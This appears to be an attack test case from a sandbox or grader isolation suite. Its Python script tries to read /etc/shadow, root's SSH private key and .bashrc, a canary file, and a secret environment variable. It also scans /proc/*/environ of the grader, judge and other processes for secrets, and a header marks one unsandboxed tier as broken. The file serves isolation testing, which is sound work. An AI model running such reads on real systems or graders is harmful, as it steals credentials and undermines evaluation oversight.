# /// attack
# title = "Reads the home folder and secrets in the environment of the grader, also through /proc"
# [tier.process]
# broke = true
# reason = "there is no sandbox in this tier: a program reads what its user may read"
# ///

# %%
import os

print("TRIED the home folder")
for path in ["@CANARY_HOME_FILE@", os.path.expanduser("~root/.bashrc"), "/etc/shadow", "/root/.ssh/id_rsa"]:
    try:
        print("BROKE read", open(path).read()[:40])
    except OSError as error:
        print(error)

# %%
print("TRIED my own environment")
if "@SECRET_VARIABLE@" in os.environ:
    print("BROKE", os.environ["@SECRET_VARIABLE@"])

# %%
print("TRIED the environments of others")
for pid in ["self", "1", "@GRADER_PID@", "@ZYGOTE_PID@", "@JUDGE_PID@", "@KERNEL_PID@", os.getppid()]:
    try:
        if b"@SECRET@" in open(f"/proc/{pid}/environ", "rb").read():
            print("BROKE read the environment of", pid)
    except OSError as error:
        print(error)
